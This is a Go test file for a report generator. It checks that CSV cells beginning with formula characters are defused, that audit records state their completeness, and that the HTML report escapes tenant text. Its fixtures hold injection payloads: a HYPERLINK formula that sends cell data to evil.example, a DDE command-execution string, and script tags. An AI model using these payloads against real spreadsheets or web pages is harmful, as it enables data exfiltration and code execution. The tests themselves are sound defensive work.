package report

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Every column of the audit record is defused like the CSV report's: a cell a spreadsheet would run as a formula
// gets a leading apostrophe, whichever column the tenant's text lands in, and the text is kept after it.
func TestTheInventoryDefusesEveryColumn(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, value string
		defused     bool
	}{
		{"equals", `=HYPERLINK("https://evil.example/?"&A1,"Open")`, true},
		{"plus", "+1 555 0100", true},
		{"minus", "-Contoso", true},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", true},
		{"tab", "\t=1+1", true},
		{"carriage return", "\r=1+1", true},
		{"a plain name", "Contoso Production", false},
		{"signs inside", "R&D = sales + ops - @hq", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			v := tc.value
			user := func() *User {
				return &User{ID: v, Name: v, DomainName: v, AppID: v, Kind: v, Enabled: true, BusinessUnit: v}
			}
			r := &Report{
				CollectedAt: time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC),
				Policy:      PolicyInfo{Digest: v},
				Tenants:     []Tenant{{Name: v}, {Name: "other" + v, Error: v}},
				Environments: []Environment{{Tenant: v, ID: v, Name: v, Type: v, Region: v, InstanceURL: v, RegionAppID: v, CollectionStatus: "ok",
					Inventory: &Inventory{ApplicationUser: user(), AppID: v, Roles: []string{v}, DirectRoles: []string{v},
						TeamRoles: []TeamRole{{Role: v, Team: v}}, ServiceUser: user(), Work365Version: v, Work365FoundBy: v, BusinessUnit: v,
						ServiceUserSetting: &Setting{ID: v, ModifiedOn: time.Date(2026, 9, 14, 8, 30, 0, 0, time.UTC), ModifiedBy: v, ModifiedByID: v}}}},
			}
			rows, err := csv.NewReader(strings.NewReader(render(t, "inventory", r, Options{}))).ReadAll()
			require.NoError(t, err)
			require.Len(t, rows, 3, "a header, the environment, the tenant whose environments could not be listed")
			require.Equal(t, InventoryColumns, rows[0])
			// A carriage return inside a field is no line break: the writer, which ends lines with CRLF, drops it.
			plain := strings.ReplaceAll(v, "\r", "")
			want := plain
			if tc.defused {
				want = "'" + plain
			}
			for i, col := range InventoryColumns {
				got := rows[1][i]
				switch col {
				case "application_user_enabled", "service_user_enabled":
					assert.Equal(t, "true", got, col)
				case "application_user_deleted":
					assert.Equal(t, "false", got, col)
				case "record_status":
					assert.Equal(t, RecordComplete, got)
				case "record_reason":
					assert.Empty(t, got)
				case "setting_modified_on":
					assert.Equal(t, "2026-09-14T08:30:00Z", got)
				case "scanned_at":
					assert.Equal(t, "2026-11-26T12:00:00Z", got)
				case "team_roles":
					assert.Equal(t, want+" (team: "+plain+")", got)
				default:
					assert.Equal(t, want, got, col)
				}
				if got != "" {
					assert.NotContains(t, "=+-@\t\r", got[:1], "column %s starts with a formula character", col)
				}
			}
			tenantRow := rows[2]
			assert.Equal(t, "other"+plain, tenantRow[0])
			assert.Equal(t, RecordTenantNotListed, tenantRow[6])
			assert.Equal(t, want, tenantRow[7], "the reason is the tenant's error")
			for _, got := range tenantRow {
				if got != "" {
					assert.NotContains(t, "=+-@\t\r", got[:1])
				}
			}
		})
	}
}

// The record says how complete each row is: read with Work 365, read without it, not read on purpose, not
// readable, or a tenant whose environments are unknown. What is known without reading an environment (where it
// is, the region's App ID, the scan) is on every row; what was not read is empty, never guessed.
func TestEveryEnvironmentHasARecordThatSaysHowCompleteItIs(t *testing.T) {
	t.Parallel()
	r := fixture()
	r.Environments = append(r.Environments, Environment{Tenant: "contoso", ID: "55555555-5555-5555-5555-555555555555", Name: "No Work 365",
		Type: "Sandbox", Region: "asia", CollectionStatus: "ok"})
	rows, err := csv.NewReader(strings.NewReader(render(t, "inventory", r, Options{}))).ReadAll()
	require.NoError(t, err)
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	type row struct{ env, status, reason, regionAppID, appUser, scanned string }
	var got []row
	for _, cells := range rows[1:] {
		got = append(got, row{cells[col["environment"]], cells[col["record_status"]], cells[col["record_reason"]],
			cells[col["region_app_id"]], cells[col["application_user"]], cells[col["scanned_at"]]})
	}
	const us, eu, at = "e4b1a995-abe3-4350-a61c-65fccd32e8bd", "5e56ae97-9be1-40d3-938b-99ea52175a30", "2026-11-26T12:00:00Z"
	assert.Equal(t, []row{
		{"<script>alert(1)</script>", RecordComplete, "", us, "# Work 365", at},
		{"Sandbox | *bold* [link](http://x)", RecordComplete, "", eu, "", at},
		{"'=SUM(1,2) Broken\x1b[2J", RecordError, "systemusers: HTTP 403", us, "", at},
		{"Empty", RecordSkipped, "the environment has no Dataverse database", us, "", at},
		{"No Work 365", RecordNotInstalled, "Work 365 is not installed", "", "", at},
		{"", RecordTenantNotListed, "list environments: HTTP 403 <script>alert(1)</script>", "", "", at},
	}, got)
}

// The HTML report's audit record is a table with a caption, column and row headers, one row per record, in a
// scrollable region a keyboard can reach; tenant text is escaped.
func TestTheHTMLReportCarriesTheAuditRecord(t *testing.T) {
	t.Parallel()
	out := render(t, "html", fixture(), Options{})
	start := strings.Index(out, `<section class="record" id="audit-record"`)
	require.NotEqual(t, -1, start)
	section := out[start:]
	section = section[:strings.Index(section, "</section>")]
	assert.Contains(t, section, `<h2 id="audit-record-title">Audit record</h2>`)
	assert.Contains(t, section, `role="region" aria-labelledby="audit-record-title" tabindex="0"`)
	assert.Contains(t, section, "<caption>")
	assert.Equal(t, 8, strings.Count(section, `<th scope="col">`))
	assert.Equal(t, len(auditRecords(fixture())), strings.Count(section, `<th scope="row">`))
	assert.Equal(t, len(auditRecords(fixture())), strings.Count(section, "<tr data-record="))
	assert.NotContains(t, section, "<script>")
	assert.Contains(t, section, "by @Pat &lt;Former&gt;")
	assert.Less(t, start, strings.Index(out, "<footer"), "the section comes before the footer")
}
